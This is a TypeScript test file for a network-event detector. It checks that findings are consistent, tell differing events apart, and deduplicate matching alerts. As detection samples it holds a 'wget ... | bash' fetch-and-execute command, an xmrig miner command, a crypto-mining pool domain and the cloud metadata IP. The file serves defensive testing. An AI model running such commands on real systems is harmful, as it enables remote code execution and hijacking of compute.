import fc from 'fast-check';
import { expect, it } from 'vitest';
import { areAlike } from '../../src/detect/alike.ts';
import { factsOf } from '../../src/detect/facts.ts';
import { createDetector, rulePacks } from '../../src/detect/index.ts';
import type { NetworkEvent } from '../../src/model/event.ts';
import { approved, network, processEvent } from './events.ts';

const inventory = approved('files.example');
const domain = fc.constantFrom(
  'pool.supportxmr.com',
  'files.example',
  'a.example',
  'x.ngrok.io',
  'a.example,tcp',
  'a.example"',
);
const ip = fc.constantFrom('10.20.1.5', '198.51.100.77', '169.254.169.254', '8.8.8.8');
const port = fc.constantFrom(22, 53, 443, 3333, 40000);
const end = fc.record({ ip, port, domain }, { requiredKeys: [] });
const text = fc.constantFrom('', 'ET POLICY Cryptocurrency Miner', 'DROP', 'a|b', '"');
const event: fc.Arbitrary<NetworkEvent> = fc
  .record({
    fields: fc.record(
      {
        type: fc.constantFrom('packet', 'flow', 'alert', 'proxy', 'dns'),
        action: fc.constantFrom('allow', 'deny', 'alert', 'unknown'),
        src: end,
        dst: end,
        transport: fc.constantFrom('tcp', 'udp', 'icmp'),
        direction: fc.constantFrom('inbound', 'outbound', 'internal'),
        rule: fc.record({ id: text, name: text }, { requiredKeys: [] }),
        bytes: fc.record({ toDst: fc.constantFrom(0, 5_000_000, 600_000_000) }),
        http: fc.record(
          { method: fc.constantFrom('GET', 'CONNECT', 'post'), host: domain, url: text },
          { requiredKeys: [] },
        ),
        dns: fc.record({ name: domain, type: fc.constantFrom('TXT', 'A') }, { requiredKeys: ['name'] }),
      },
      { requiredKeys: [] },
    ),
  })
  .map(({ fields }) => network(fields as Partial<NetworkEvent>));

it('judges a record the same after any others as alone (property)', () => {
  fc.assert(
    fc.property(fc.array(event, { minLength: 2, maxLength: 60 }), (events) => {
      const detector = createDetector(rulePacks, { inventory });
      for (const one of events)
        expect(detector.observe(one)).toEqual(createDetector(rulePacks, { inventory }).observe(one));
    }),
    { numRuns: 60 },
  );
});

it.each<[string, Partial<NetworkEvent>, Partial<NetworkEvent>]>([
  ['the far end', { dst: { ip: '169.254.169.254', port: 80 } }, { dst: { ip: '198.51.100.7', port: 80 } }],
  ['the far port', { dst: { ip: '198.51.100.7', port: 3333 } }, { dst: { ip: '198.51.100.7', port: 443 } }],
  ['the side of the client', { src: { ip: '10.20.1.5' } }, { src: { ip: '198.51.100.7' } }],
  ['the rule', { rule: { name: 'ET COINMINER Miner' } }, { rule: { name: 'ET INFO Update' } }],
  ['the domain', { dst: { domain: 'pool.supportxmr.com' } }, { dst: { domain: 'files.example' } }],
  ['the action', { action: 'deny' }, { action: 'allow' }],
])('tells apart what differs in %s', (_, one, other) => {
  const events = [one, other].map((fields) => network({ type: 'alert', action: 'alert', ...fields }));
  const detector = createDetector(rulePacks, { inventory });
  expect(events.map((it) => detector.observe(it))).toEqual(
    events.map((it) => createDetector(rulePacks, { inventory }).observe(it)),
  );
});

it('tells apart commands, also those that are too long to be remembered', () => {
  const commands = ['curl http://198.51.100.7/x', 'wget -q -O- http://198.51.100.7/x | bash', 'xmrig -o pool:3333'];
  const socket = { transport: 'tcp', local: {}, remote: { ip: '198.51.100.7', port: 443 } };
  const events = [...commands, ...commands.map((command) => `${command} ${'x'.repeat(300)}`)].map((commandLine) =>
    processEvent({ op: 'alert', action: 'alert', commandLine, socket }),
  );
  const detector = createDetector(rulePacks, { inventory });
  for (const one of [...events, ...events])
    expect(detector.observe(one)).toEqual(createDetector(rulePacks, { inventory }).observe(one));
  expect(new Set(events.map((one) => detector.observe(one)?.category)).size).toBeGreaterThan(1);
});

it('takes records for alike exactly where all that is compared is equal, whatever texts run together (property)', () => {
  const odd = fc.oneof(fc.constantFrom('a', 'undefined', '1;1:a', ''), fc.string({ maxLength: 1 }));
  const odder = fc
    .record({ transport: odd, rule: odd, domain: odd, name: odd, port: fc.constantFrom(1, 11, undefined) })
    .map(({ transport, rule, domain, name, port }) =>
      factsOf(
        network({ transport, rule: { name: rule }, dst: { domain, port }, dns: { name } } as Partial<NetworkEvent>),
      ),
    );
  fc.assert(
    fc.property(odder, odder, (a, b) => {
      expect(areAlike(a, b)).toBe(JSON.stringify(a) === JSON.stringify(b));
    }),
    { numRuns: 500, examples: [[ALIKE, { ...ALIKE }]] },
  );
});

const ALIKE = factsOf(network({ dst: { domain: 'a.example', port: 1 }, dns: { name: 'b.example' } }));

it('gives records that break the same rule the same finding, which is held once', () => {
  const detector = createDetector(rulePacks, { inventory });
  const alert = (name: string, port: number) =>
    detector.observe(network({ type: 'alert', action: 'alert', rule: { name }, src: { ip: '10.20.1.5', port } }));
  expect(alert('ET POLICY Miner', 1)).toBe(alert('ET POLICY Miner', 2));
  expect(alert('ET POLICY Miner', 1)).not.toBe(alert('ET POLICY Miner 2', 1));
});
